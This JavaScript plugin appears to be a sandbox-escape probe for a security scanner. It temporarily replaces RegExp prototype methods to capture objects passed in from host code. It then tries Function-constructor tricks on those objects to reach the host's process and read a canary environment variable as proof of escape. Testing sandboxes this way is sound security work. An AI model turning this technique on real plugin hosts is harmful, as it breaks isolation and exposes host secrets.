// Regular expressions call methods that a plugin may replace.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const kept = [];
    const proto = RegExp.prototype;
    const before = {};
    for (const key of ['exec', 'test', Symbol.replace, Symbol.split, Symbol.match, Symbol.matchAll]) {
      before[key] = proto[key];
      proto[key] = function (...given) {
        kept[kept.length] = this;
        kept[kept.length] = given;
        return Reflect.apply(before[key], this, given);
      };
    }
    try {
      new URL('https://a.example/?b=c#d').searchParams.get('b');
      await ctx.storage.list('a');
      ctx.log.info('%s %o', 'a', { b: 1 });
      require('./nothing');
    } catch (error) {
      kept[kept.length] = error;
    }
    for (const key of Reflect.ownKeys(before)) proto[key] = before[key];
    for (const each of kept.slice(0, 500)) look(each);
    return { metadata: verdict() };
  },
};
